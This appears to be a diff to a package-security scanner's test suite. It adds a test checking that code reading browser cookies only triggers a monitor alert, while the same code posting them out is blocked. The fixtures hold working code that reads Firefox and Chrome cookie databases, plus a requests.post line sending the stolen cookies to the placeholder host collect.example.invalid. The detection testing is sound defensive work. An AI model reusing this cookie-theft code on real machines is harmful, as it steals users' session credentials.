@@ -169,3 +169,40 @@ def test_the_same_reads_sent_to_a_host_the_code_names_still_fire(tmp_path: Path)
     assert found[("stealer/__init__.py", 8)] == "error"
     assert ("stealer/hook.py", 6) in found
     assert ("stealer/dump.py", 10) in found
+
+
+COOKIES = """import os
+import sqlite3
+
+
+def browser_cookies(browser):
+    root = os.path.expanduser("~/.mozilla/firefox")
+    if browser == "chrome":
+        root = os.path.expanduser("~/.config/google-chrome/Default")
+    db = os.path.join(root, "cookies.sqlite")
+    with sqlite3.connect(db) as conn:
+        return conn.execute("SELECT host, name, value FROM moz_cookies").fetchall()
+"""
+
+COOKIE_THIEF = (
+    COOKIES
+    + """
+
+import requests
+
+
+def share():
+    requests.post("https://collect.example.invalid/c", json=browser_cookies("chrome"))
+"""
+)
+
+
+def test_cookie_reader_that_sends_nothing_is_monitor_and_a_sender_still_blocks(
+    tmp_path: Path,
+) -> None:
+    reader = package(tmp_path, "cookiejar", {"cookiejar/__init__.py": COOKIES})
+    harvest = [a for a in reader.alerts if a.type == "credentialHarvesting"]
+    assert harvest and {a.action for a in harvest} == {"monitor"}
+    assert (harvest[0].file, harvest[0].line) == ("cookiejar/__init__.py", 9)
+    thief = package(tmp_path, "cookiethief", {"cookiethief/__init__.py": COOKIE_THIEF})
+    assert exfil(thief).get(("cookiethief/__init__.py", 18)) == "error"
